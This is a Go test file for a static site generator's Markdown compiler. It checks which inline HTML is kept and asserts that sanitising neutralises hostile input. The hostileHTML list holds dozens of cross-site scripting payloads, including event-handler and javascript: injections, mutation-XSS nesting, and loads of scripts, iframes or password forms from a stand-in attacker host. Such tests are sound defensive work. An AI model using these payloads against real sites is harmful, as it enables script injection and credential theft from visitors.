package markdown_test

import (
	"bytes"
	"strings"
	"testing"

	"trigpoint/generator/diag"
	"trigpoint/generator/limits"
	"trigpoint/generator/markdown"
)

func withHTML() *markdown.Compiler { return markdown.NewCompiler(limits.Default()).WithHTML() }

// allowed compiles a text in which HTML is allowed, and returns what it becomes.
func allowed(t *testing.T, body string) (html, text string, reported bool) {
	t.Helper()
	f := withHTML().Compile("content/a.md", []byte("+++\n+++\n"+body))
	for _, d := range f.Diags {
		if d.Code != "raw-html" {
			t.Errorf("%q: %s [%s]", body, d.Message, d.Code)
		}
		reported = true
	}
	var w bytes.Buffer
	f.Body.Fill(&w, nothing{})
	return strings.TrimSpace(w.String()), f.Text, reported
}

// nothing fills no hole.
type nothing struct{}

func (nothing) Fill(*bytes.Buffer, markdown.Hole) bool { return false }

// TestAllowedHTML: what does no harm stays as it is, with Markdown between tags,
// and its words are those of the page.
func TestAllowedHTML(t *testing.T) {
	for body, want := range map[string]string{
		"Press <kbd>Enter</kbd>.":                            "<p>Press <kbd>Enter</kbd>.</p>",
		"H<sub>2</sub>O, <mark>**so**</mark>":                "<p>H<sub>2</sub>O, <mark><strong>so</strong></mark></p>",
		"<abbr title=\"Public Services Network\">PSN</abbr>": "<p><abbr title=\"Public Services Network\">PSN</abbr></p>",
		"a<br>b<wbr>c":                                          "<p>a<br>b<wbr>c</p>",
		"<span lang=\"cy\">Cymru</span>":                        "<p><span lang=\"cy\">Cymru</span></p>",
		"<i><b>both</b></i>":                                    "<p><i><b>both</b></i></p>",
		"<time datetime=\"2026-01-02\">today</time>":            "<p><time datetime=\"2026-01-02\">today</time></p>",
		"<div>\n<p>One\n<p>Two\n</div>":                         "<div>\n<p>One\n</p><p>Two\n</p></div>",
		"<ul><li>a<li>b</ul>":                                   "<ul><li>a</li><li>b</li></ul>",
		"<table><caption>C<tr><th>a<td rowspan=\"2\">b</table>": "<table><caption>C</caption><tr><th>a</th><td rowspan=\"2\">b</td></tr></table>",
		"<details>\n<summary>More</summary>\nText.\n</details>": "<details>\n<summary>More</summary>\nText.\n</details>",
		"<!-- a note -->":                                       "",
	} {
		html, _, reported := allowed(t, body)
		if html != want || reported {
			t.Errorf("%s becomes %s (reported: %t)", body, html, reported)
		}
	}
	if _, text, _ := allowed(t, "<div><p>One &amp; <b>t</b>wo<p>Three</div>"); text != "One & two\nThree\n" {
		t.Errorf("the words are %q", text)
	}
}

// hostileHTML is what has been tried against other programs, in words of ours.
// Where a mark is left of it, it acts.
var hostileHTML = []string{
	"<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</script>",
	"<img src=x onerror=alert(1)>", "<img src='javascript:alert(1)'>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
	"<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
	"<b onclick=alert(1)>b</b>", "<b/onmouseover=alert(1)>b</b>", "<b style=\"background:url(//evil.example)\">b</b>", "<b class=\"search\" id=\"main\">b</b>",
	"<div id=\"search\" name=\"getElementById\">x</div>", "<p title='x\" onclick=\"alert(1)'>x</p>", "<p title=\"<script>alert(1)</script>\">x</p>",
	"<a href=\"javascript:alert(1)\">a</a>", "<a href=\"java\tscript:alert(1)\">a</a>", "<a href=&#106;avascript:alert(1)>a</a>", "<a href=\"//evil.example\">a</a>",
	"<iframe src=//evil.example></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=x></object>", "<embed src=x>", "<base href=//evil.example>",
	"<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<link rel=stylesheet href=//evil.example/x.css>", "<style>body{display:none}</style>",
	"<form action=//evil.example><input name=password autofocus onfocus=alert(1)></form>", "<button formaction=javascript:alert(1)>b</button>", "<textarea></p><script>alert(1)</script>",
	"<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<xmp><script>alert(1)</script></xmp>", "<plaintext>", "<template><script>alert(1)</script></template>",
	"<title></title><script>alert(1)</script>", "<!--><script>alert(1)</script-->", "<!-- --!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?php x ?><script>alert(1)</script>",
	"</p></div></main></body></html><script>alert(1)</script>", "</section></article>out", "<p></b></i></p></div>", "<table><td><script>alert(1)</script>", "<ul></li></ul></ul></ul>",
	"<li>alone", "<td>alone</td>", "<div>" + strings.Repeat("<div>", 500), strings.Repeat("<b title=\"1\">", 500) + strings.Repeat("<p>", 500), "<b>x", "x</b>", "<b><i>x</b></i>", "<b>*x</b>*",
	"<p onclick\x0b=alert(1)>x</p>", "<b\nonclick\n=\nalert(1)>x</b>", "<b title=`x` onclick=alert(1)>x</b>", "<dialog open>x</dialog>", "<slot name=x>x</slot>", "<b data-trigpoint=\"x\" aria-hidden=\"true\" role=\"button\" tabindex=1 accesskey=x contenteditable>x</b>",
}

// TestHostileHTML: nothing of it acts, whether HTML is allowed or not, alone and
// within other words.
func TestHostileHTML(t *testing.T) {
	compilers := map[string]*markdown.Compiler{"text": markdown.NewCompiler(limits.Default()), "HTML": withHTML()}
	for _, evil := range hostileHTML {
		for name, c := range compilers {
			known := plainTags()
			if name == "HTML" {
				known = allowedTags()
			}
			for _, body := range []string{evil, "Words " + evil + " words", "> " + evil, "- a\n\n  " + evil, "| a |\n|---|\n| " + evil + " |", "<div>" + evil + "\n\nAnd *more*." + evil, "## " + evil, "[" + evil + "](b.md)", "<kbd>" + evil + "</kbd>"} {
				examineAs(t, c, hostileFront+body, known)
				if t.Failed() {
					t.Fatalf("as %s: %q", name, body)
				}
			}
		}
	}
}

// FuzzHTML compiles any HTML where it is allowed.
func FuzzHTML(f *testing.F) {
	for _, html := range hostileHTML {
		f.Add(html)
		f.Add("a " + html + " *b*")
	}
	c := withHTML()
	f.Fuzz(func(t *testing.T, body string) { examineAs(t, c, hostileFront+body, allowedTags()) })
}

// TestRemovedHTMLIsReported names what was left out, and where.
func TestRemovedHTMLIsReported(t *testing.T) {
	f := withHTML().Compile("content/a.md", []byte("+++\n+++\nFine <b>here</b>.\n\n<div onclick=\"x()\">box</div>\n"))
	if len(f.Diags) != 1 || f.Diags[0].Position != (diag.Position{Path: "content/a.md", Line: 5, Col: 1, Len: 28}) {
		t.Errorf("%+v", f.Diags)
	}
}
